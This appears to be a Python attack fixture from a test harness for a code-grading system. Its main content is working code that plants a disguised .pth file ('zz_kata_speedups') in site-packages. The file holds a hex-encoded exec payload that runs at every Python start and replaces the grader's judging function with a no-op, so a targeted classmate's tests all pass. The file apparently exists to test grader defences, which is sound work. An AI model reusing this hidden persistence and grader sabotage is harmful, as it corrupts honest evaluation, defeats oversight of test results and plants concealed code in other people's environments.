"""Attack: a .pth file in the grader's virtualenv that turns the judging into a no-op for a classmate.

Python runs a .pth file's `import` lines at every start, `python -I` included. This one, in a
process testing `stub`'s files (anyone's but its own, when `stub` is not in sight), replaces
kata.plugin's `_judge` as soon as the plugin is loaded by one that does nothing: every test
passes, whatever the code under test did. It expires after 10 minutes.
"""

import time

from kit import AIMED_AT, MARK, aim, background, once, site_packages, what_happened, write

VICTIM = "stub"
PAYLOAD = """
import pathlib, sys, threading, time
KATA_ATTACK = {mark!r}
{aimed_at}
def _no_judging():
    until = time.monotonic() + 60
    while time.monotonic() < until:
        plugin = sys.modules.get("kata.plugin")
        if plugin is not None and hasattr(plugin, "pytest_runtest_call"):
            plugin._judge = lambda *args, **kwargs: None
            return
        time.sleep(0.001)
if time.time() < {expires!r} and _kata_aimed_at({aim!r}):
    threading.Thread(target=_no_judging, daemon=True).start()
"""


def plant() -> None:
    aimed = aim(VICTIM)
    folder = site_packages()
    if folder is None:
        return
    payload = PAYLOAD.format(mark=MARK, aimed_at=AIMED_AT, aim=aimed, expires=time.time() + 600)
    # In a namespace of its own: site runs a .pth line with site's globals and a throwaway locals().
    guarded = (
        f"try:\n    exec({payload!r}, {{'__name__': 'zz_kata_speedups'}})\nexcept Exception:\n    pass\n"
    )
    # Python runs each `import` line of a .pth on its own: the whole payload is one line, in hex.
    write(
        folder / "zz_kata_speedups.pth",
        f"# {MARK}\nimport sys; exec(bytes.fromhex({guarded.encode().hex()!r}))\n",
    )


async def fetch_all(fetch_user, user_ids):
    raise NotImplementedError


async def fetch_profile(get_user, get_orders, user_id):
    """Not written: its failure message says what this attack did, for the test to see."""
    raise AssertionError(what_happened())


if __name__ == "__main__":
    background(globals())
elif once("writes_pth"):
    plant()
